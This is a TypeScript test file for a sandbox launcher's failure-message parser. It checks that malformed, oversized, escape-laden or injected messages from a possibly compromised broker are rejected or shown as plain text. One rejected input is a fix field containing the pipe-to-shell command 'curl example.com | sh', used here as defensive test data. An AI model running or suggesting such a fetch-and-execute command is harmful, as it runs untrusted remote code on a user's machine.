// A plugin that got the launch socket from a broker that was taken over speaks for its launcher.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { failureIn } from '../../../sandbox/supervisor/start/launch-sandbox.js';

const SAID = { step: 'command', code: 'failed', message: 'said', exitStatus: 127 };
const FOREIGN = /: What came on the launch socket is no message of a launcher$/;

const failure = (said: unknown): ReturnType<typeof failureIn> =>
  failureIn(typeof said === 'string' ? said : JSON.stringify(said));

test('a failure of the launcher is told as it says', () => {
  const fix = 'name a program';
  const { message, fix: told, exitStatus, fields } = failure({ ...SAID, code: 'command_not_found', fix });
  assert.deepEqual(
    { message, told, exitStatus, fields },
    { message: 'said', told: fix, exitStatus: 127, fields: { step: 'command', cause: 'command_not_found' } },
  );
  assert.match(failure({ ...SAID, code: 'errno 600', exitStatus: 125 }).message, /step command: said$/);
});

// proves: launch: the code of a failure is a word
// proves: launch: the message of a failure has a bound
// proves: launch: nobody but postern gives the fix of a failure
test('what no launcher says is not told, and says so', () => {
  for (const said of [
    ...['exec ', '{', 'null', '[]', '7', '"text"', {}],
    ...[
      { ...SAID, step: 'other' },
      { ...SAID, step: null },
      { ...SAID, message: { toString: 'x' } },
    ],
    ...[
      { ...SAID, exitStatus: 0 },
      { ...SAID, exitStatus: 300 },
      { ...SAID, exitStatus: '127' },
    ],
    ...[
      { ...SAID, code: 'a\u001b[31m' },
      { ...SAID, message: 'x'.repeat(5_000) },
      { ...SAID, fix: 'curl example.com | sh' },
    ],
  ]) {
    const { code, message, exitStatus } = failure(said);
    assert.deepEqual([code, exitStatus], ['launch_failed', 125]);
    assert.match(message, FOREIGN, JSON.stringify(said).slice(0, 80));
  }
});

// proves: launch: the message of a failure is one line
test('a message that acts on a terminal is told as text', () => {
  const { message } = failure({ ...SAID, message: '\u001b[31mboo\nfake line' });
  assert.equal(message, '\\u001b[31mboo\\u000afake line');
});
